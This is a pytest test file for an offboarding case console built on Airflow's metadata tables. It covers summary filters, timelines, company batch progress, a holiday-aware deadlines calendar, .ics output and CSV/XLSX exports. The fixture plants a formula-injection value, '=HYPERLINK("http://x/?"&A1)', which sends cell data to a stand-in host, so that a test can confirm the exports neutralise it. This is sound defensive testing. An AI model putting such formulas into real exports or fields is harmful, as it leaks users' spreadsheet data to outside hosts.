"""The console on a real metadata database (SQLite, Airflow's own tables): summary strip and its filters,
a person's timeline, a company's member progress, the deadlines calendar and its .ics, the exports.

The database holds synthetic cases plus the showcase cases (``offboarding_dev.synthetic``): a person in
the cooling-off wait, put on hold, and a company with 10,002 members in the middle of its 50 batches.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import create_engine, event, insert, update
from sqlalchemy.orm import Session

from offboarding.alerting.timing import AlertTiming
from offboarding.cases_page.console import Console, load_console, load_open_cases, load_timeline
from offboarding.cases_page.deadlines_calendar import DAY_OFF, MAKE_UP, build_calendar
from offboarding.cases_page.exports import COLUMNS, csv_export, xlsx_export
from offboarding.cases_page.ics import fold, to_ics
from offboarding.cases_page.query import CASE_DAG_IDS, CaseFilters
from offboarding.cases_page.summary_svg import render_summary
from offboarding.cases_page.timeline_svg import render_timeline_svg
from offboarding_dev.synthetic import (
    ConsoleShowcase,
    create_metadata_tables,
    seed_console_showcase,
    seed_synthetic_cases,
)

# 10:00 Asia/Shanghai, Friday 26 September 2025: the next 30 days hold the National Day holidays
# (1-8 October) and two make-up working days (Sunday 28 September, Saturday 11 October).
NOW = dt.datetime(2025, 9, 26, 2, 0, tzinfo=dt.UTC)
SYNTHETIC = 300
DAGS = list(CASE_DAG_IDS)


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Any, ConsoleShowcase]]:
    path: Path = tmp_path_factory.mktemp("console") / "airflow.db"
    engine = create_engine(f"sqlite:///{path}")
    create_metadata_tables(engine)
    seed_synthetic_cases(engine, SYNTHETIC, now=NOW)
    showcase = seed_console_showcase(engine, now=NOW)
    from airflow.models.dagrun import DagRun

    with engine.begin() as conn:  # a case whose name is a formula, for the exports
        conn.execute(
            update(DagRun.__table__)
            .where(DagRun.__table__.c.run_id == "synthetic-000001")
            .values(conf={"userid": "evil", "display_name": '=HYPERLINK("http://x/?"&A1)', "time_scale": 1})
        )
    yield engine, showcase
    engine.dispose()


def console(engine: Any, filters: CaseFilters, statements: list[str] | None = None) -> Console:
    def count(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if statements is not None:
            statements.append(statement)

    event.listen(engine, "before_cursor_execute", count)
    try:
        with Session(engine) as session:
            return load_console(session, filters, DAGS, now=NOW, timing=AlertTiming.from_policy())
    finally:
        event.remove(engine, "before_cursor_execute", count)


# -- summary strip -------------------------------------------------------------------------------------


def test_summary_counts_every_open_case(db: tuple[Any, ConsoleShowcase]) -> None:
    engine, _ = db
    summary = console(engine, CaseFilters()).summary
    open_synthetic = SYNTHETIC - SYNTHETIC // 5  # one in five synthetic cases is finished
    assert summary.open_cases == open_synthetic + 2
    phases = dict(summary.by_phase)
    assert phases["statutory_steps"] == open_synthetic // 2  # variants 0 and 1 of four
    assert phases["account_deregistration"] == 1  # the showcase person
    assert phases["offboard_all_members"] == 1  # the showcase company's batches
    assert summary.stalled == open_synthetic // 4 + 1  # variant 0, plus the company's failed-and-running
    assert summary.on_hold == 1


def test_each_summary_number_is_the_length_of_the_list_it_links_to(db: tuple[Any, ConsoleShowcase]) -> None:
    engine, showcase = db
    summary = console(engine, CaseFilters()).summary
    for phase, count in summary.by_phase:
        assert console(engine, CaseFilters(phase=phase)).page.total == count, phase
    stalled = console(engine, CaseFilters(stalled=True, limit=200))
    assert stalled.page.total == summary.stalled
    assert all(c.stalled for c in stalled.page.cases)
    held = console(engine, CaseFilters(held=True)).page
    assert held.total == summary.on_hold == 1
    assert [c.run_id for c in held.cases] == [showcase.person_run_id]
    assert console(engine, CaseFilters(state="open")).page.total == summary.open_cases
    due = console(engine, CaseFilters(due_within_days=summary.due_days)).page
    assert (due.total or 0) == summary.due_soon


def test_legal_deadlines_due_soon_are_counted(db: tuple[Any, ConsoleShowcase]) -> None:
    engine, _ = db
    # synthetic legal waits end in 20 days, the showcase cooling-off in 10 days
    open_synthetic = SYNTHETIC - SYNTHETIC // 5
    assert console(engine, CaseFilters(due_within_days=30)).page.total == open_synthetic // 4 + 1
    assert console(engine, CaseFilters(due_within_days=11)).page.total == 1
    assert console(engine, CaseFilters(due_within_days=9)).page.total is None  # nothing matched


def test_the_page_with_its_summary_is_a_small_fixed_number_of_queries(
    db: tuple[Any, ConsoleShowcase],
) -> None:
    engine, _ = db
    for filters in (CaseFilters(), CaseFilters(stalled=True, phase="statutory_steps", limit=200)):
        statements: list[str] = []
        console(engine, filters, statements)
        reads = [s for s in statements if s.lstrip().upper().startswith(("WITH", "SELECT"))]
        assert len(reads) <= 6, (
            reads
        )  # open runs, current steps, held, the page, company batches (+ table check)


def test_bad_summary_filters_name_the_field() -> None:
    with pytest.raises(ValueError, match="phase must be"):
        CaseFilters(phase="a b").checked()
    with pytest.raises(ValueError, match="due_within_days must be"):
        CaseFilters(due_within_days=0).checked()


def test_summary_svg_links_every_bar_and_number(db: tuple[Any, ConsoleShowcase]) -> None:
    engine, _ = db
    html = render_summary(console(engine, CaseFilters()).summary)
    assert 'href="/offboarding/cases?phase=statutory_steps"' in html
    assert 'href="/offboarding/cases?stalled=true"' in html
    assert 'href="/offboarding/cases?held=true"' in html
    assert 'href="/offboarding/cases?due_within_days=7"' in html
    assert "<title>statutory_steps: 120 open cases</title>" in html
    assert 'fill="currentColor"' in html and "<script" not in html


# -- person timeline -----------------------------------------------------------------------------------


def person_timeline(engine: Any, showcase: ConsoleShowcase) -> Any:
    with Session(engine) as session:
        timeline = load_timeline(
            session,
            "offboard_employee",
            showcase.person_run_id,
            now=NOW,
            timing=AlertTiming.from_policy(),
            takeover_delay=dt.timedelta(hours=24),
        )
    assert timeline is not None
    return timeline


def test_person_timeline_has_deadlines_human_steps_and_the_hold(db: tuple[Any, ConsoleShowcase]) -> None:
    engine, showcase = db
    timeline = person_timeline(engine, showcase)
    titles = [d.title for d in timeline.deadlines]
    assert titles == [
        "last working day ends",
        "customers taken over",
        "review due",
        "cooling-off ends",
    ]
    cooling = timeline.deadlines[-1]
    assert cooling.at == dt.datetime(2025, 10, 5, 16, 0, tzinfo=dt.UTC)  # 6 Oct 00:00 Asia/Shanghai
    last_day = timeline.deadlines[0]
    assert "rescheduled by hr_wang" in last_day.detail
    phases = {p.name: p for p in timeline.phases}
    assert phases["account_deregistration"].state == "waiting" and phases["account_deregistration"].ongoing
    assert phases["backup"].state == "done"
    approval = next(h for h in timeline.human_steps if h.task_id == "approve_deletion")
    assert approval.owners == ("approver_zhao",) and approval.answered_by == "approver_zhao"
    assert [e.kind for e in timeline.events] == ["reschedule", "hold"]
    assert timeline.events[1].detail == "by ops_li: legal review of the handover"


def test_timeline_svg_is_accessible_and_themable(db: tuple[Any, ConsoleShowcase]) -> None:
    engine, showcase = db
    svg = render_timeline_svg(person_timeline(engine, showcase))
    assert svg.startswith("<svg") and "<script" not in svg
    assert "currentColor" in svg
    assert "<title>Legal deadline: cooling-off ends: 2025-10-06 00:00 (Asia/Shanghai)" in svg
    assert "hold: hold: 2025-09-23 16:00 (Asia/Shanghai) — by ops_li: legal review of the handover" in svg
    assert "answered 20" in svg and "approver_zhao" in svg
    assert svg.count("<title>") >= 4 + 7 + 2  # every deadline, human step and action has its own


# -- company progress ----------------------------------------------------------------------------------


def test_company_progress_in_the_page_and_the_json(db: tuple[Any, ConsoleShowcase]) -> None:
    engine, showcase = db
    page = console(engine, CaseFilters(dag_id="dissolve_company", run_id=showcase.company_run_id)).page
    [case] = page.cases
    progress = case.progress
    assert progress is not None
    assert progress["members"] == showcase.company_members == 10_002
    assert progress["done"] == 20 * 200  # 20 batches done (two of their members kept)
    assert progress["failed"] == 200  # the failed batch: all to be redone
    assert progress["remaining"] == 10_002 - 4_000 - 200
    assert progress["batches_by_state"] == {
        "success": 20,
        "failed": 1,
        "running": 4,
        "scheduled": 25,
        "not started": 1,  # the leaders
    }
    assert progress["batches"][20]["label"] == "batch 21/50 (members 4001–4200)"
    assert progress["outcomes_url"].endswith(
        "/dags/dissolve_company/runs/showcase-company/tasks/offboard_all_members.offboard_member_batch/mapped"
    )
    assert page.to_json()["cases"][0]["progress"]["done"] == 4000


def test_progress_reads_the_operators_task_ids() -> None:
    from offboarding.cases_page.company_progress import TASK_IDS
    from offboarding.operators.company_members import BATCH_TASK_ID, LEADERS_TASK_ID, PLAN_TASK_ID

    assert TASK_IDS == (PLAN_TASK_ID, BATCH_TASK_ID, LEADERS_TASK_ID)


# -- deadlines calendar and .ics -----------------------------------------------------------------------


def open_cases(engine: Any) -> list[Any]:
    with Session(engine) as session:
        return load_open_cases(session, DAGS, now=NOW, timing=AlertTiming.from_policy())


def test_calendar_marks_holidays_and_make_up_days_and_filters_by_owner(
    db: tuple[Any, ConsoleShowcase],
) -> None:
    engine, _ = db
    calendar = build_calendar(open_cases(engine), now=NOW)
    kinds = {d.day: d.kind for d in calendar.days}
    assert len(calendar.days) == 30 and calendar.first == dt.date(2025, 9, 26)
    assert kinds[dt.date(2025, 9, 28)] == MAKE_UP and kinds[dt.date(2025, 10, 11)] == MAKE_UP
    assert all(kinds[dt.date(2025, 10, d)] == DAY_OFF for d in (1, 2, 3, 6, 7, 8))
    assert calendar.owners == ["hr_wang"]  # the synthetic companies name no owner
    cooling = [e for e in calendar.entries if e.title == "cooling-off ends"]
    assert [e.local_day for e in cooling] == [dt.date(2025, 10, 6)]
    mine = build_calendar(open_cases(engine), now=NOW, owner="hr_wang")
    assert mine.entries and all("hr_wang" in e.owners for e in mine.entries)
    assert len(mine.entries) < len(calendar.entries)


def test_ics_parses_with_a_standard_library_in_the_right_time_zone(db: tuple[Any, ConsoleShowcase]) -> None:
    import icalendar

    engine, _ = db
    calendar = build_calendar(open_cases(engine), now=NOW, owner="hr_wang", days=366)
    text = to_ics(calendar.entries, now=NOW, owner="hr_wang")
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    parsed = icalendar.Calendar.from_ical(text)
    events = list(parsed.walk("VEVENT"))
    assert len(events) == len(calendar.entries) > 0
    cooling = next(e for e in events if "cooling-off ends" in str(e["SUMMARY"]))
    start = cooling.decoded("DTSTART")
    assert start == dt.datetime(2025, 10, 5, 16, 0, tzinfo=dt.UTC)  # 00:00 on 6 Oct in Shanghai
    assert "王小明" in str(cooling["SUMMARY"])
    assert len({str(e["UID"]) for e in events}) == len(events)


def test_ics_text_is_escaped_and_folded() -> None:
    long = "SUMMARY:" + "注销" * 40
    folded = fold(long)
    assert all(len(part.encode()) <= 75 for part in folded.split("\r\n"))
    assert folded.replace("\r\n ", "") == long


# -- exports -------------------------------------------------------------------------------------------


def test_exports_have_the_rows_of_the_page_with_formulas_neutralised(db: tuple[Any, ConsoleShowcase]) -> None:
    from openpyxl import load_workbook

    engine, _ = db
    page = console(engine, CaseFilters(kind="person", limit=200, offset=0)).page
    rows = list(csv.DictReader(io.StringIO(b"".join(csv_export(page.cases)).decode("utf-8-sig"))))
    assert [r["run_id"] for r in rows] == [c.run_id for c in page.cases]
    book = load_workbook(io.BytesIO(xlsx_export(page.cases)))
    sheet = book.active
    table = list(sheet.iter_rows(values_only=True))
    assert list(table[0]) == list(COLUMNS)
    assert [r[COLUMNS.index("run_id")] for r in table[1:]] == [c.run_id for c in page.cases]
    evil = next(r for r in table[1:] if r[COLUMNS.index("run_id")] == "synthetic-000001")
    assert evil[COLUMNS.index("who")].startswith("'=HYPERLINK")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    [evil_csv] = [r for r in rows if r["run_id"] == "synthetic-000001"]
    assert evil_csv["who"].startswith("'=HYPERLINK")


def test_no_action_table_means_no_hold(tmp_path: Path) -> None:
    from offboarding.cases_page.actions import case_actions, held_case_ids

    engine = create_engine(f"sqlite:///{tmp_path / 'empty.db'}")
    with Session(engine) as session:
        assert held_case_ids(session) == set()
        assert case_actions(session, "offboard_employee", "x") == []


def test_a_release_ends_the_hold(tmp_path: Path) -> None:
    from offboarding.cases_page.actions import case_action, held_case_ids

    engine = create_engine(f"sqlite:///{tmp_path / 'actions.db'}")
    case_action.metadata.create_all(engine)
    at = dt.datetime(2025, 9, 1, tzinfo=dt.UTC)
    row = {"case_id": "c", "by_user": "u", "at": at, "fields": {}, "outcome": "accepted", "dag_id": "d"}
    with engine.begin() as conn:
        conn.execute(
            insert(case_action),
            [
                {**row, "run_id": "a", "action": "hold"},
                {**row, "run_id": "b", "action": "hold"},
                {**row, "run_id": "b", "action": "release"},
                {**row, "run_id": "c", "action": "hold", "outcome": "refused"},
            ],
        )
    with Session(engine) as session:
        assert held_case_ids(session) == {("d", "a")}
